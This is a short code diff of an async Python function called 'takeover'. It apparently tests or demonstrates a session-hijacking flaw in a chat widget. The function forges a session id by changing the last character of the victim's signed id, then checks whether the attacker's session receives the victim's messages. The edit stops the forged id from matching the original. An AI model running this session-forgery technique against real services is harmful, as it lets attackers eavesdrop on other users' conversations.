@@ -106,7 +106,10 @@ async def takeover(url: str, chosen: str) -> dict[str, Any]:
     async with WidgetSession(url) as victim, WidgetSession(url) as attacker:
         victim_id = await victim.request_session(chosen)
         attacker_id = await attacker.request_session(chosen)
-        forged = await attacker.request_session(str(victim_id)[:-1] + "A")
+        # Its signature's last character changed (1 in 64 ids already ends in "A").
+        forged = await attacker.request_session(
+            str(victim_id)[:-1] + ("B" if str(victim_id)[-1] == "A" else "A")
+        )
         victim_said = await victim.say("what is PIH")
         await asyncio.sleep(1)
         heard_by_attacker = list(attacker.said)
